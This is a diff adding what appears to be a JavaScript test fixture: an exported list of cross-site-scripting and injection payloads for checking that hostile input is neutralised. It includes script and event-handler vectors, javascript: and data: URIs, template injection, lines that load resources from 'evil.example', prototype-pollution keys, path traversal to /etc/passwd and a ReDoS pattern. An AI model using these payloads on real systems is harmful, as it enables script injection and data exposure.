@@ -1,0 +1,50 @@
+// Texts that would do harm where somebody takes texts for anything else.
+
+const HARM = "window.hurt=1";
+const TAGS = ["img src=x", "svg", "body", "video", "audio src=x", "iframe", "input autofocus", "select autofocus", "details open", "marquee", "object", "math", "style", "a href=x", "div"];
+const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle"];
+const inTags = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}="${HARM}">`));
+
+export const PAYLOADS = [
+  `<script>${HARM}</script>`,
+  `</textarea><script>${HARM}</script>`,
+  `</title><script>${HARM}</script>`,
+  `"><script>${HARM}</script>`,
+  `'><img src=x onerror=${HARM}>`,
+  `" autofocus onfocus="${HARM}" x="`,
+  `javascript:${HARM}`,
+  `JaVaScRiPt:${HARM}`,
+  `java\tscript:${HARM}`,
+  ` javascript:${HARM}`,
+  `data:text/html,<script>${HARM}</script>`,
+  `vbscript:${HARM}`,
+  `blob:http://x/${HARM}`,
+  `[x](javascript:${HARM})`,
+  `![x](x"onerror="${HARM})`,
+  `{{constructor.constructor('${HARM}')()}}`,
+  "{{ $root }}",
+  "${window.hurt=1}",
+  `<svg><script>${HARM}</script></svg>`,
+  `<svg><a xlink:href="javascript:${HARM}"><text y=20>x</text></a></svg>`,
+  `<math><mi xlink:href="data:x,<script>${HARM}</script>">`,
+  `<base href="http://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${HARM}">`,
+  `<link rel=stylesheet href="http://evil.example/x.css">`,
+  `<form action="javascript:${HARM}"><button>x</button></form>`,
+  `red;background:url(http://evil.example)`,
+  `url(javascript:${HARM})`,
+  `expression(${HARM})`,
+  `<!--><script>${HARM}</script>-->`,
+  `<![CDATA[<script>${HARM}</script>]]>`,
+  `&lt;script&gt;${HARM}&lt;/script&gt;`,
+  `\u202e<script>${HARM}</script>`,
+  `<scr\u0000ipt>${HARM}</scr\u0000ipt>`,
+  "__proto__",
+  "constructor",
+  "../../../etc/passwd",
+  "%3Cscript%3Ewindow.hurt%3D1%3C/script%3E",
+  "(.*)+$",
+  "[",
+  "\\",
+  ...inTags,
+];
